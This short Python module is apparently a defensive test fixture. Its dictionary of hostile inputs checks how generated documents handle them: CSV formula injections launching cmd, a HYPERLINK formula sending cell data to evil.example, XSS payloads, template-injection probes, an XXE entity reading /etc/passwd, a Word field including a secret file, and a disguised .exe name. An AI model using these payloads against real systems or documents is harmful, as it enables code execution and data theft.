"""Texts as devices send them when somebody means harm, and what a document may make of them."""

from __future__ import annotations

HOSTILE = {
    "formula": "=cmd|'/c calc'!A1",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "image": "<img src=http://evil.example/x.png onerror=alert(1)>",
    "jinja": "{{7*7}}{% for x in y %}{# c #}",
    "jinja of docxtpl": "{_{ a }_} {_% b %_} {%p endfor %} {{r x }}",
    "escapes": "\x1b[2J\x1b]0;title\x07",
    "directions": "abc\u202egpj.exe",
    "nul": "a\x00b",
    "surrogate": "a\ud800b",
    "cdata": "]]> <![CDATA[x]]> &amp; &lt; &#x41; &",
    "marks": "\ue0000\ue002 \ue0001\ue002 \ue001akh0\ue002",
    "controls": "line one\nline two\ttab\r\x0b\x0c\x85",
    "sheet": "_x000D__x0041_",
    "blanks": "  two  blanks \u00a0 ",
    "noncharacters": "a\ufffe\uffffb",
    "astral": "😀 𝔘 漢字 עברית",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "word field": 'INCLUDETEXT "C:\\secret.txt" \\* MERGEFORMAT',
    "long": "A" * 1_000_000,
    "long words": "я " * 40_000,
    "astral long": "😀" * 20_000,
}
